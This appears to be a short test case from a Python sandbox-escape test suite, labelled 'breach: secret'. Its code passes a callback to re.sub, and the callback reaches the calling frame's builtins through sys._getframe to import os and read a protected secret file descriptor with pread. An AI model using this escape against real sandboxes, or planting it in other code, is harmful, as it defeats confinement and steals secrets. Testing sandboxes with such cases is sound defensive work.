# The builtins of the frame of a library function that calls back.
# breach: secret
import re, sys
def spy(match):
    return str(sys._getframe(1).f_builtins["__import__"]("os").pread(SECRET_FD, 100, 0))
re.sub("a", spy, "a")
